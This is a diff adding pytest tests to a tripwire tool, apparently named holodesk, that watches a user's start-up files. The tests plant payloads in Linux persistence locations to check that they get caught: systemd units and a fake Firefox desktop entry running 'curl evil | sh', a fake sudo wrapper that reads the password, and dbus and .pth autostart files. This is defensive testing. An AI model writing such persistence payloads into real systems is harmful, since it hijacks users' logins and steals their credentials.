@@ -14,6 +14,10 @@ failing test really runs the file).
 
 from __future__ import annotations
 
+import shutil
+import subprocess
+import sys
+import threading
 from collections.abc import Callable, Iterator
 from pathlib import Path
 from typing import Any
@@ -173,3 +177,228 @@ def test_what_a_protected_link_points_to_changed_between_runs_is_told(
     real.write_text(PAYLOAD)  # a program it started goes on
     noticed = protected.changed_since_last_run(Settings())
     assert [n.path for n in noticed], "~/.bashrc's content changed and nothing is told"
+
+
+# -- 2. start-up files and folders outside the list -------------------------------------------
+
+
+def _user_site(home: Home) -> Path:
+    """Python's user site folder under this home (``python3 -m site --user-site``)."""
+    python = shutil.which("python3", path="/usr/bin:/bin") or sys.executable
+    out = subprocess.run([python, "-c", "import site; print(site.getusersitepackages())"],
+                         env={"HOME": str(home.root), "PATH": "/usr/bin:/bin"},
+                         capture_output=True, text=True, check=True, timeout=60)
+    return Path(out.stdout.strip())
+
+
+#: Where a file makes code run at the next login, the next shell or the next program start,
+#: each read by default by the program named (a loader present on stock Debian, Ubuntu,
+#: Fedora or KDE).
+STARTUP_ELSEWHERE: dict[str, Callable[[Home], Path]] = {
+    # Debian/Ubuntu's skel ~/.bashrc: `. ~/.bash_aliases`
+    "bash_aliases": lambda h: h.root / ".bash_aliases",
+    # Fedora's skel ~/.bashrc: every file in ~/.bashrc.d
+    "bashrc.d": lambda h: h.root / ".bashrc.d" / "evil.sh",
+    # systemd --user: `systemd-analyze --user unit-paths` lists both (units and their .wants)
+    "systemd-data-units": lambda h: h.data / "systemd" / "user" / "evil.service",
+    "systemd-user.control": lambda h: h.config / "systemd" / "user.control" / "evil.service",
+    # dbus-daemon's <standard_session_servicedirs/>: $XDG_DATA_HOME/dbus-1/services first; the
+    # Exec= line runs when any program asks for the name (a notification, a portal)
+    "dbus-activation": lambda h: (h.data / "dbus-1" / "services"
+                                  / "org.freedesktop.Notifications.service"),
+    # every python3 start (Ubuntu's command-not-found runs one on every mistyped command)
+    "python-user-site": lambda h: _user_site(h) / "zz-evil.pth",
+    # Debian's im-config, sourced by /etc/X11/Xsession.d/70im-config_launch at X login
+    "xinputrc": lambda h: h.root / ".xinputrc",
+    # openbox-session: `sh $XDG_CONFIG_HOME/openbox/autostart` (openbox-autostart)
+    "openbox-autostart": lambda h: h.config / "openbox" / "autostart",
+    # KDE Plasma: sources ~/.config/plasma-workspace/env/*.sh at login
+    "plasma-env": lambda h: h.config / "plasma-workspace" / "env" / "evil.sh",
+    # LXDE/LXQt session: each @line of lxsession's autostart runs at login
+    "lxsession-autostart": lambda h: h.config / "lxsession" / "LXDE" / "autostart",
+}
+
+
+@pytest.mark.parametrize("where", STARTUP_ELSEWHERE.values(), ids=STARTUP_ELSEWHERE.keys())
+def test_a_start_up_file_outside_the_list_written_during_a_run_trips(
+        home: Home, wire: Callable[..., tuple[Tripwire, list[Trip]]],
+        where: Callable[[Home], Path]) -> None:
+    """docs/safety.md: "What starts with your shells and your session" and "What starts
+    programs" are protected. These start with them too, each by default, and nothing of them
+    is in the set: a file manager's paste or an editor's Save As there goes through."""
+    path = where(home)
+    w, trips = wire()
+    path.parent.mkdir(parents=True, exist_ok=True)
+    path.write_text(PAYLOAD)
+    w.check()
+    assert trips, f"{path} was created during the run and nothing tripped"
+    assert not path.exists(), f"{path} is still there for the next login or shell"
+
+
+def test_every_user_unit_folder_systemd_reads_in_the_home_is_protected(
+        home: Home, wire: Callable[..., tuple[Tripwire, list[Trip]]]) -> None:
+    """By mechanism rather than by a list: ask systemd itself where it reads user units
+    (`systemd-analyze --user unit-paths`, under this home's variables). Only
+    ~/.config/systemd/user is protected; systemd also reads ~/.config/systemd/user.control and
+    ~/.local/share/systemd/user (a unit there, with a link in its default.target.wants, starts
+    at every login)."""
+    analyze = shutil.which("systemd-analyze", path="/usr/bin:/bin")
+    if analyze is None:
+        pytest.skip("no systemd-analyze")
+    out = subprocess.run([analyze, "--user", "unit-paths"], capture_output=True, text=True,
+                         timeout=60, check=True,
+                         env={"HOME": str(home.root), "XDG_CONFIG_HOME": str(home.config),
+                              "XDG_DATA_HOME": str(home.data),
+                              "XDG_RUNTIME_DIR": str(home.runtime), "PATH": "/usr/bin:/bin"})
+    folders = [Path(line) for line in out.stdout.splitlines()
+               if Path(line).is_relative_to(home.root)]
+    assert folders, out.stdout
+    w, trips = wire()
+    missed = []
+    for folder in folders:
+        folder.mkdir(parents=True, exist_ok=True)
+        unit = folder / "evil.service"
+        unit.write_text("[Service]\nExecStart=/bin/sh -c 'curl evil | sh'\n")
+        trips.clear()
+        w.check()
+        if not trips or unit.exists():
+            missed.append(str(folder))
+    assert missed == [], f"user units systemd reads there are not protected: {missed}"
+
+
+def test_desktop_entries_in_every_data_folder_of_the_session_under_the_home_are_protected(
+        home: Home, wire: Callable[..., tuple[Tripwire, list[Trip]]],
+        monkeypatch: pytest.MonkeyPatch) -> None:
+    """Where flatpak is installed (Fedora, Mint, Pop!_OS by default), its environment
+    generator puts ~/.local/share/flatpak/exports/share in XDG_DATA_DIRS: the menus and the
+    "open with" of every file type read the .desktop entries in its applications folder
+    exactly as those in ~/.local/share/applications, which is protected for that reason."""
+    exports = home.data / "flatpak" / "exports" / "share"
+    (exports / "applications").mkdir(parents=True)
+    monkeypatch.setenv("XDG_DATA_DIRS", f"{exports}:/usr/local/share:/usr/share")
+    w, trips = wire()
+    (exports / "applications" / "org.mozilla.firefox.desktop").write_text(
+        "[Desktop Entry]\nType=Application\nName=Firefox\nExec=sh -c 'curl evil | sh'\n"
+        "MimeType=text/html;x-scheme-handler/https;\n")
+    w.check()
+    assert trips, "a desktop entry the menus read appeared during the run and nothing tripped"
+
+
+def test_zsh_files_in_the_zdotdir_that_zshenv_names_are_protected(
+        home: Home, wire: Callable[..., tuple[Tripwire, list[Trip]]]) -> None:
+    """A tidy home sets ZDOTDIR in ~/.zshenv (the zsh FAQ's way to keep zsh's files under
+    ~/.config/zsh): zsh then reads .zshrc there. holodesk protects $ZDOTDIR only when it is
+    in *its own* environment, which a desktop-started app never has."""
+    (home.root / ".zshenv").write_text('export ZDOTDIR="$HOME/.config/zsh"\n')
+    zdotdir = home.config / "zsh"
+    zdotdir.mkdir(parents=True)
+    (zdotdir / ".zshrc").write_text("autoload -U compinit\n")
+    w, trips = wire()
+    (zdotdir / ".zshrc").write_text(PAYLOAD)
+    w.check()
+    assert trips, "the .zshrc every zsh reads changed and nothing tripped"
+
+
+def test_every_folder_on_path_the_person_can_write_is_protected(
+        home: Home, wire: Callable[..., tuple[Tripwire, list[Trip]]],
+        monkeypatch: pytest.MonkeyPatch) -> None:
+    """rustup puts ~/.cargo/bin first on PATH (also ~/go/bin, ~/.npm-global/bin, a pyenv's
+    shims): a `sudo` there is handed the password exactly as one in ~/.local/bin, which is
+    protected for that very reason."""
+    cargo = home.root / ".cargo" / "bin"
+    cargo.mkdir(parents=True)
+    monkeypatch.setenv("PATH", f"{cargo}:/usr/bin:/bin")
+    w, trips = wire()
+    (cargo / "sudo").write_text("#!/bin/sh\n# read the password, then exec /usr/bin/sudo\n")
+    (cargo / "sudo").chmod(0o755)
+    w.check()
+    assert trips, "a `sudo` first on PATH appeared during the run and nothing tripped"
+
+
+def test_the_tripwire_never_runs_a_program_from_a_folder_a_run_can_write(
+        home: Home, monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
+    """The tripwire finds `crontab` on PATH (control/crontab.py, shutil.which): a `crontab`
+    left by an earlier run in a person-writable folder on PATH (~/.cargo/bin, unprotected) runs
+    inside holodesk at the next run's start and after every action; it also answers for the
+    crontab (it can say nothing changed)."""
+    cargo = home.root / ".cargo" / "bin"
+    cargo.mkdir(parents=True)
+    ran = tmp_path / "planted-crontab-ran"
+    (cargo / "crontab").write_text(f"#!/bin/sh\necho \"$@\" >> {ran}\nexit 0\n")
+    (cargo / "crontab").chmod(0o755)
+    monkeypatch.setenv("PATH", f"{cargo}:/usr/bin:/bin")
+    w = protected.start_tripwire(Settings(), lambda _t: None, watch=False)
+    try:
+        w.check()
+    finally:
+        w.close()
+    assert not ran.exists(), f"holodesk ran {cargo / 'crontab'}: {ran.read_text()!r}"
+
+
+# -- the damage is real (these pass today) ----------------------------------------------------
+
+
+def test_control_debians_bashrc_runs_bash_aliases(home: Home, tmp_path: Path) -> None:
+    if not shutil.which("bash", path="/usr/bin:/bin"):
+        pytest.skip("no bash")
+    (home.root / ".bashrc").write_text(DEBIAN_BASHRC)
+    canary = home.root / "canary"
+    canary.mkdir()
+    (home.root / ".bash_aliases").write_text(PAYLOAD)
+    subprocess.run(["bash", "-i", "-c", "true"], env={"HOME": str(home.root),
+                   "PATH": "/usr/bin:/bin"}, stdin=subprocess.DEVNULL, capture_output=True,
+                   timeout=60, check=False)
+    assert not canary.exists()
+
+
+def test_control_fedoras_bashrc_runs_bashrc_d(home: Home) -> None:
+    if not shutil.which("bash", path="/usr/bin:/bin"):
+        pytest.skip("no bash")
+    (home.root / ".bashrc").write_text(FEDORA_BASHRC)
+    canary = home.root / "canary"
+    canary.mkdir()
+    (home.root / ".bashrc.d").mkdir()
+    (home.root / ".bashrc.d" / "evil.sh").write_text(PAYLOAD)
+    subprocess.run(["bash", "-i", "-c", "true"], env={"HOME": str(home.root),
+                   "PATH": "/usr/bin:/bin"}, stdin=subprocess.DEVNULL, capture_output=True,
+                   timeout=60, check=False)
+    assert not canary.exists()
+
+
+def test_control_python_runs_a_pth_file_in_the_user_site(home: Home, tmp_path: Path) -> None:
+    python = shutil.which("python3", path="/usr/bin:/bin")
+    if python is None:
+        pytest.skip("no system python3")
+    ran = tmp_path / "pth-ran"
+    site = _user_site(home)
+    site.mkdir(parents=True)
+    (site / "zz-evil.pth").write_text(f"import os; open({str(ran)!r}, 'w').close()\n")
+    subprocess.run([python, "-c", "pass"], env={"HOME": str(home.root),
+                   "PATH": "/usr/bin:/bin"}, timeout=60, check=True)
+    assert ran.exists()
+
+
+def test_control_dbus_runs_a_service_file_in_the_data_home(home: Home, tmp_path: Path) -> None:
+    if not shutil.which("dbus-run-session", path="/usr/bin:/bin"):
+        pytest.skip("no dbus-run-session / dbus-send")
+    ran = tmp_path / "dbus-ran"
+    services = home.data / "dbus-1" / "services"
+    services.mkdir(parents=True)
+    (services / "org.example.Payload.service").write_text(
+        f"[D-BUS Service]\nName=org.example.Payload\nExec=/bin/sh -c 'touch {ran}'\n")
+    home.runtime.mkdir(parents=True, exist_ok=True)
+    done = threading.Event()
+
+    def call() -> None:
+        subprocess.run(["dbus-run-session", "--", "dbus-send", "--session", "--print-reply",
+                        "--reply-timeout=20000", "--dest=org.example.Payload", "/x",
+                        "org.freedesktop.DBus.Peer.Ping"],
+                       env={"HOME": str(home.root), "PATH": "/usr/bin:/bin",
+                            "XDG_DATA_HOME": str(home.data),
+                            "XDG_RUNTIME_DIR": str(home.runtime)},
+                       capture_output=True, timeout=60, check=False)
+        done.set()
+
+    threading.Thread(target=call, daemon=True).start()
+    assert done.wait(TIMEOUT)
+    assert ran.exists()
